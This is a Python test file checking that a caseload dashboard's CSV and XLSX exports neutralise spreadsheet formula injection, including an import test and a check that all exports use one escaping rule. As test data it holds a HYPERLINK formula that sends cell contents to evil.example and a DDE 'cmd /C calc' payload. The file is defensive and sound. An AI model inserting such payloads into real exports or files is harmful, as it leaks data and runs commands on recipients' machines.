"""No export carries a live formula (issue 29, item 1): CSV cells beginning with = + - @
(tab, CR) get a leading apostrophe, XLSX cells are typed strings; one rule
(layouts/export.cell) that every export goes through. Imports store such names verbatim
(they are data; bound parameters, never SQL or markup): the exports neutralise them.

Over HTTP: unit names that are formulas, the caseload, needs-attention and review-pack
exports of a region head, through the callbacks the browser calls."""

from __future__ import annotations

import base64
import csv
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from sqlalchemy import update

from dashboard import auth, migrate
from dashboard.config import Settings
from dashboard.db import make_engine
from dashboard.schema import units
from layouts.export import cell, csv_text, workbook
from service.factory import create_app
from tests import fixture_small
from tests.helpers import SMALL_ROLES, SMALL_ROLES_PASSWORD, live, sign_in

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = {1: '=HYPERLINK("http://evil.example/?x="&A1,"Yesil")', 2: "@SUM(1+1)*cmd|' /C calc'!A0"}


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    url = f"sqlite:///{tmp_path_factory.mktemp('formulas') / 'probation.db'}"
    engine = make_engine(url)
    migrate.upgrade(engine)
    fixture_small.load(engine)
    with engine.begin() as conn:
        for unit_id, name in HOSTILE.items():
            conn.execute(update(units).where(units.c.id == unit_id).values(
                name_en=name, name_ru=name, name_kk=name))
    for name, (role, place) in SMALL_ROLES.items():
        auth.create_user(engine, name, role, SMALL_ROLES_PASSWORD, language="en", **place)
    engine.dispose()
    app = create_app(Settings(database_url=url, secret_key="formulas", small_sample_min=1))
    with live(app) as served:
        yield served
    app.server.config["ENGINE"].dispose()


@pytest.fixture(scope="module")
def http(server):
    return sign_in(server.url, "head71", SMALL_ROLES_PASSWORD)


def _download(http, base: str, output: str, inputs: list[str], which: int, search: str):
    body = {"output": f"{output}.data", "outputs": {"id": output, "property": "data"},
            "inputs": [{"id": i, "property": "n_clicks", "value": 1 if n == which else None}
                       for n, i in enumerate(inputs)],
            "state": [{"id": "url", "property": "search", "value": search}],
            "changedPropIds": [f"{inputs[which]}.n_clicks"]}
    response = http.post(base + "/_dash-update-component", json=body, timeout=60)
    assert response.status_code == 200, response.text[:300]
    return response.json()["response"][output]["data"]


def _xlsx_cells(data: dict) -> tuple[list, str]:
    raw = base64.b64decode(data["content"])
    book = openpyxl.load_workbook(io.BytesIO(raw))
    values = [c for sheet in book for row in sheet.iter_rows() for c in row]
    xml = "".join(zipfile.ZipFile(io.BytesIO(raw)).read(n).decode()
                  for n in zipfile.ZipFile(io.BytesIO(raw)).namelist()
                  if n.startswith("xl/worksheets/"))
    return values, xml


EXPORTS = {
    "caseload": ("caseload-download", ["caseload-export-csv", "caseload-export-xlsx"], ""),
    "attention": ("attention-download", ["attention-export-csv", "attention-export-xlsx"],
                  "?region=KZ-71"),
}


@pytest.mark.parametrize("name", list(EXPORTS))
def test_csv_exports_put_an_apostrophe_before_a_formula(server, http, name):
    output, inputs, search = EXPORTS[name]
    data = _download(http, server.url, output, inputs, 0, search)
    rows = list(csv.reader(io.StringIO(data["content"].lstrip("\ufeff"))))
    cells = [c for row in rows for c in row]
    assert "'" + HOSTILE[1] in cells, cells[:20]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    assert not [c for c in cells if c.startswith("-") and not _number(c)]


@pytest.mark.parametrize("name", list(EXPORTS))
def test_xlsx_exports_hold_the_names_as_typed_strings(server, http, name):
    output, inputs, search = EXPORTS[name]
    cells, xml = _xlsx_cells(_download(http, server.url, output, inputs, 1, search))
    named = [c for c in cells if c.value == HOSTILE[1]]
    assert named and all(c.data_type == "s" for c in named)  # shown as written, not run
    assert "<f>" not in xml and "<f " not in xml


def test_the_review_pack_xlsx_holds_no_formula(server, http):
    data = _download(http, server.url, "review-download",
                     ["review-export-html", "review-export-xlsx"], 1, "")
    cells, xml = _xlsx_cells(data)
    assert any(c.value == HOSTILE[1] and c.data_type == "s" for c in cells)
    assert "<f>" not in xml and "<f " not in xml


def _number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def test_the_one_rule():
    assert [cell(v, "csv") for v in ("=1+1", "+7", "-x", "@A", "\tx", "\rx", "ok")] == [
        "'=1+1", "'+7", "'-x", "'@A", "'\tx", "'\rx", "ok"]
    assert [cell(v, "xlsx") for v in ("=1+1", "a\x00b\x07", "ok")] == ["=1+1", "ab", "ok"]
    assert cell(-3, "csv") == -3 and cell(float("nan"), "xlsx") is None
    frame = pd.DataFrame({"=h": ["=1+1", None], "n": [-1, 2]})
    assert csv_text(frame) == "\ufeff'=h,n\n'=1+1,-1\n,2\n"
    book = openpyxl.load_workbook(io.BytesIO(workbook([("S", frame)])))
    assert [[c.value for c in row] for row in book["S"].iter_rows()] == [
        ["=h", "n"], ["=1+1", -1], [None, 2]]
    assert all(c.data_type == "s" for c in book["S"]["A"] if c.value)


def test_every_export_goes_through_the_one_rule():
    """No module but layouts/export.py writes a spreadsheet (to_csv, to_excel, openpyxl)."""
    writers = re.compile(r"\.to_csv\(|\.to_excel\(|ExcelWriter|openpyxl|csv\.writer")
    found = []
    for folder in ("callbacks", "layouts", "queries", "dashboard"):
        for path in (ROOT / folder).rglob("*.py"):
            if path.name == "export.py" and folder == "layouts":
                continue
            if "migrations" in path.parts:
                continue
            if writers.search(path.read_text(encoding="utf-8")):
                found.append(str(path.relative_to(ROOT)))
    assert found == []


def test_an_import_stores_a_formula_looking_name_verbatim(engine, tmp_path):
    """Decided: a name is data. The import keeps it as written (bound parameters; the
    screen shows it as text) and every export neutralises it (above)."""
    from sqlalchemy import select

    from service.extract.importer import run_import
    from tests.fixture_extract import replace_line, write

    name = '=HYPERLINK("http://evil.example","x")'
    line = f'1,KZ-71,"{name.replace(chr(34), chr(34) * 2)}",район Есиль,@Esil,city_district'
    run_import(engine, write(tmp_path / "x", replace_line("units", 2, line)),
               tmp_path / "report.csv")
    with engine.connect() as conn:
        stored = conn.execute(select(units.c.name_kk, units.c.name_en)
                              .where(units.c.id == 1)).one()
    assert tuple(stored) == (name, "@Esil")


def test_the_worklist_csv_puts_an_apostrophe_before_a_formula(server, http):
    request = {"startRow": 0, "endRow": 100, "sortModel": [], "filterModel": {}}
    body = {"output": "milestones-download.data",
            "outputs": {"id": "milestones-download", "property": "data"},
            "inputs": [{"id": "milestones-export-csv", "property": "n_clicks", "value": 1}],
            "state": [{"id": "milestones-worklist", "property": "getRowsRequest",
                       "value": request},
                      {"id": "url", "property": "pathname", "value": "/milestones"},
                      {"id": "url", "property": "search", "value": "?asof=2025-12-31"}],
            "changedPropIds": ["milestones-export-csv.n_clicks"]}
    response = http.post(server.url + "/_dash-update-component", json=body, timeout=60)
    assert response.status_code == 200, response.text[:300]
    content = response.json()["response"]["milestones-download"]["data"]["content"]
    rows = list(csv.reader(io.StringIO(content.lstrip("\ufeff"))))
    units_column = [row[2] for row in rows[1:]]
    assert units_column, "the fixture has overdue milestones"
    assert set(units_column) <= {"'" + HOSTILE[1], "'" + HOSTILE[2]}, units_column[:5]
